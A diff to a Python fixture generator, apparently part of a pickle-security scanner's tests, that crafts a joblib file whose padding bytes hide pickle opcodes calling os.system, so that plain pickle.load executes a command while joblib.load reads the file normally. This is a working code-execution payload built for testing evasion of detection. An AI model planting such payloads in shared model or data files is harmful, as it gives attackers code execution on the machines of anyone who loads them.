@@ -140,11 +140,14 @@ def _joblib(tmp: Path) -> dict[str, Variant]:
     tail = objects.getvalue()
     marker = tail.index(b"\x80\x05", 16)  # the object array's own pickle, written after its wrapper
     inner = _global_call("os", "system", _cmd(tmp), protocol=5)
-    build = real.index(b"K\x10ub") + 4  # numpy_array_alignment_bytes=16, SETITEMS, BUILD: the padding byte next
-    pad = real[build]
     opcodes = f"os\nsystem\n(S'{_cmd(tmp)}'\ntR.".encode()  # with the byte "c" (99) that joblib reads as a length
-    padding = b"c" + opcodes.ljust(ord("c"), b"\xff")
-    padded = real[:build] + padding + real[build + 1 + pad :]
+    wide = io.BytesIO()  # array bytes at least as long as the opcodes, which may run past the 99 bytes of padding
+    joblib.dump({"w": np.arange(float(len(opcodes)))}, wide)
+    body = wide.getvalue()
+    build = body.index(b"K\x10ub") + 4  # numpy_array_alignment_bytes=16, SETITEMS, BUILD: the padding byte next
+    end = build + 1 + body[build] + 8 * len(opcodes)  # past the padding and the array
+    padding = (b"c" + opcodes).ljust(1 + ord("c") + 8 * len(opcodes), b"\xff")  # joblib.load still reads it whole
+    padded = body[:build] + padding + body[end:]
     return {
         "joblib_padding_read_as_opcodes": Variant(padded, "joblib padding that plain pickle.load runs as opcodes",
                                                   "format"),
